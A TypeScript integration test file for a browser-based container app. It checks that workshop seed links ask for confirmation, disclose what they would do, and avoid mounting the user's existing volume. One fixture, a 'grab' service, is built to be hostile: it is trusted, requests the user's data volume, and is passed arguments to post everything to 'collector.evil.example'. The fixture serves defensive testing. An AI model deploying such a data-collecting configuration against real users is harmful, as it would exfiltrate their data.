// Workshops: a seed link (`/?seed=<url>`) to a folder served over HTTP (another origin) shows what
// it would import and imports nothing until the user confirms; then exactly that, and a volume the
// user already has is not mounted unless the user maps it. "Export my setup" produces one file that
// a second fresh profile imports, images and services together.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, normalize } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { berth } from '../integration/cli.ts';
import { fetchText, launch, newProfileDir, openApp, removeProfileDir, serveDist } from './browser.ts';

const HELLO = fileURLToPath(new URL('../../examples/hello-web-db/hello-web-db.wasm', import.meta.url));

/** A plain static file server with CORS, like any host a workshop would use. */
async function serveFolder(root: string): Promise<{ url: string; server: Server }> {
  const server = createServer(async (req, res) => {
    const path = normalize(decodeURIComponent(new URL(req.url!, 'http://x').pathname)).replace(/^(\.\.[/\\])+/, '');
    try {
      const body = await readFile(join(root, path));
      res.writeHead(200, { 'access-control-allow-origin': '*' });
      res.end(body);
    } catch {
      res.writeHead(404, { 'access-control-allow-origin': '*' });
      res.end('not found');
    }
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, server };
}

/** Opens a seed link, waits for its confirmation dialog and chooses Import. */
async function openLinkAndImport(context: BrowserContext, url: string): Promise<Page> {
  const page = await context.newPage();
  await page.goto(url);
  await page.waitForSelector('dialog#link-dialog[open]');
  await page.click('dialog#link-dialog button[data-action="import"]');
  await page.waitForSelector('body[data-ready="true"]');
  await page.waitForFunction(() => document.getElementById('status')?.textContent?.startsWith('Workshop link'));
  return page;
}

describe('workshops', () => {
  let app: { url: string; close: () => Promise<void> };
  let folder: { url: string; server: Server };
  const profiles: string[] = [];

  beforeAll(async () => {
    const root = await mkdtemp(join(tmpdir(), 'berth-workshop-'));
    expect(
      (
        await berth([
          'pack',
          HELLO,
          '-t',
          'localhost/workshop/counter:1',
          '--dir',
          '/data',
          '--oci',
          join(root, 'room'),
        ])
      ).code,
    ).toBe(0);
    await writeFile(
      join(root, 'room', 'berth-setup.json'),
      JSON.stringify({
        version: 1,
        services: [
          { name: 'room-counter', image: 'localhost/workshop/counter:1', volumes: [{ name: 'room', path: '/data' }] },
        ],
      }),
    );
    // A link that would mount the seeded counter's volume (the user's data) in a trusted service of its own.
    expect(
      (await berth(['pack', HELLO, '-t', 'localhost/workshop/grab:1', '--dir', '/data', '--oci', join(root, 'grab')]))
        .code,
    ).toBe(0);
    await writeFile(
      join(root, 'grab', 'berth-setup.json'),
      JSON.stringify({
        version: 1,
        services: [
          {
            name: 'grab',
            image: 'localhost/workshop/grab:1',
            trusted: true,
            volumes: [{ name: 'hello-web-db-data', path: '/data' }],
            env: { MODE: 'collect' },
            args: ['--post-everything-to', 'https://collector.evil.example/'],
            outgoingHosts: ['*.example'],
          },
        ],
      }),
    );
    folder = await serveFolder(root);
    app = await serveDist();
  }, 60_000);
  afterAll(async () => {
    await app?.close();
    await new Promise((r) => folder?.server.close(r));
    for (const p of profiles) await removeProfileDir(p);
  });

  it('a seed link to a layout folder over HTTP gives a fresh profile a working service', async () => {
    const profile = await newProfileDir();
    profiles.push(profile);
    const context = await launch(profile);
    try {
      const page = await openLinkAndImport(context, `${app.url}?seed=${encodeURIComponent(`${folder.url}room/`)}`);
      expect(await page.textContent('#status')).toContain(
        'Workshop link imported localhost/workshop/counter:1; services room-counter',
      );
      expect(await page.textContent('#images')).toContain('localhost/workshop/counter:1');
      expect((await fetchText(page, '/svc/room-counter/')).text).toBe('hello from wasm, hits=1\n');
    } finally {
      await context.close();
    }
  });

  it('a link from another origin shows what it would do, binds nothing until confirmed, then exactly that', async () => {
    const profile = await newProfileDir();
    profiles.push(profile);
    const context = await launch(profile);
    try {
      const home = await openApp(context, app.url);
      const before = Number(/hits=(\d+)/.exec((await fetchText(home, '/svc/hello-web-db')).text)![1]);
      const link = `${app.url}?seed=${encodeURIComponent(`${folder.url}grab/`)}`;
      const page = await context.newPage();
      await page.goto(link);
      await page.waitForSelector('dialog#link-dialog[open]');
      const shown = await page.textContent('dialog#link-dialog');
      expect(shown).toContain('localhost/workshop/grab:1');
      expect(shown).toMatch(/sha256:[0-9a-f]{12}/);
      expect(shown).toContain('/svc/grab/');
      expect(shown).toContain('TRUSTED');
      expect(shown).toContain(
        'mount my existing volume hello-web-db-data at /data (else a new volume hello-web-db-data-2)',
      );
      // Everything it would be given is said: where it may send requests, its arguments and env.
      expect(shown).toContain('may send requests to *.example');
      expect(shown).toContain('with arguments "--post-everything-to" "https://collector.evil.example/"');
      expect(shown).toContain('env MODE="collect"');
      // While the dialog waits, nothing is stored.
      const waiting = await page.evaluate(() =>
        Promise.all([window.berth!.ctx.images.list(), window.berth!.ctx.records.table('services').keys()]),
      );
      expect(waiting[0].map((i: { ref: string }) => i.ref)).not.toContain('localhost/workshop/grab:1');
      expect(waiting[1]).not.toContain('grab');
      await page.click('dialog#link-dialog button[data-action="cancel"]');
      await page.waitForFunction(
        () => document.getElementById('status')?.textContent === 'The workshop link was not imported.',
      );
      const declined = await page.evaluate(() =>
        Promise.all([window.berth!.ctx.images.list(), window.berth!.ctx.records.table('services').keys()]),
      );
      expect(declined[0].map((i: { ref: string }) => i.ref)).not.toContain('localhost/workshop/grab:1');
      expect(declined[1]).not.toContain('grab');
      expect(new URL(page.url()).search).toBe('');

      // Confirmed: the image and the service, on a new volume; the user's counter is untouched.
      const again = await openLinkAndImport(context, link);
      expect(await again.textContent('#status')).toContain(
        'Workshop link imported localhost/workshop/grab:1; services grab',
      );
      const svc = await again.evaluate(() => window.berth!.ctx.records.table('services').get('grab'));
      expect(svc).toMatchObject({ trusted: true, volumes: [{ name: 'hello-web-db-data-2', path: '/data' }] });
      expect((await fetchText(again, '/svc/grab/')).text).toBe('hello from wasm, hits=1\n');
      expect((await fetchText(again, '/svc/hello-web-db')).text).toBe(`hello from wasm, hits=${before + 1}\n`);
    } finally {
      await context.close();
    }
  });

  it('exports the whole setup to one file that another fresh profile imports', async () => {
    const first = await newProfileDir();
    const second = await newProfileDir();
    profiles.push(first, second);
    const a = await launch(first);
    let file = '';
    try {
      const page = await openLinkAndImport(a, `${app.url}?seed=${encodeURIComponent(`${folder.url}room/`)}`);
      await fetchText(page, '/svc/room-counter/');
      const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-setup')]);
      file = join(await mkdtemp(join(tmpdir(), 'berth-setup-')), download.suggestedFilename());
      await download.saveAs(file);
    } finally {
      await a.close();
    }
    const b = await launch(second);
    try {
      const page = await openApp(b, app.url);
      expect(await page.textContent('#services')).not.toContain('room-counter');
      await page.setInputFiles('#load-input', file);
      await page.waitForFunction(() => document.getElementById('load-status')?.textContent?.startsWith('Loaded'));
      expect(await page.textContent('#load-status')).toContain('services room-counter');
      await page.waitForSelector('li[data-service="room-counter"]');
      // Images and services travel; volume contents do not (the counter starts again).
      expect((await fetchText(page, '/svc/room-counter/')).text).toBe('hello from wasm, hits=1\n');
    } finally {
      await b.close();
    }
  });
});
